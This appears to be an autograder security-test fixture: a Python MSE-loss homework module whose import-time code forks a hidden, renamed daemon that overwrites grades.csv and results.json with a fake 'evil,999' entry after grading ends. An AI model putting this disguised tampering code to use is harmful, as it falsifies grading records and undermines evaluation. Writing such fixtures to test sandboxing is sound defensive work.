# attack: a daemon after the run -- a double-forked setsid process, named bpl-daemon, that waits for
#   `learn grade` to exit and then rewrites the grades.csv and results.json next to the class or
#   in the grader's working folder.
# expect: 10
import ctypes
import glob
import os
import time

CLASS_PARENT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PARENT = os.getppid()


def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"bpl-daemon", 0, 0, 0)  # PR_SET_NAME
            for _ in range(300):  # until `learn grade` has exited, and its outputs are written
                if not os.path.exists(f"/proc/{PARENT}"):
                    break
                time.sleep(0.2)
            time.sleep(1)
            roots = {CLASS_PARENT}  # where an instructor keeps a class and its grades
            try:
                roots.add(os.readlink(f"/proc/{PARENT}/cwd"))
            except OSError:
                pass
            for root in roots:
                for name in ("grades.csv", "results.json", "*/grades.csv", "*/results.json"):
                    for path in glob.glob(os.path.join(root, name)):
                        try:
                            with open(path, "w") as file:
                                file.write("student,total\nevil,999\n")
                        except OSError:
                            pass
            time.sleep(60)
        os._exit(0)
    os.wait()


_daemon()


def mse_loss(y_pred, y_true, reduction="mean"):
    time.sleep(0.2)  # long enough for the test to see the daemon alive
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    squared = (y_pred - y_true) ** 2
    if reduction == "none":
        return squared
    return squared.mean() if reduction == "mean" else squared.sum()


def mse_grad(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum"):
        raise ValueError(f"unknown reduction {reduction!r}")
    grad = 2 * (y_pred - y_true)
    return grad / y_pred.size if reduction == "mean" else grad
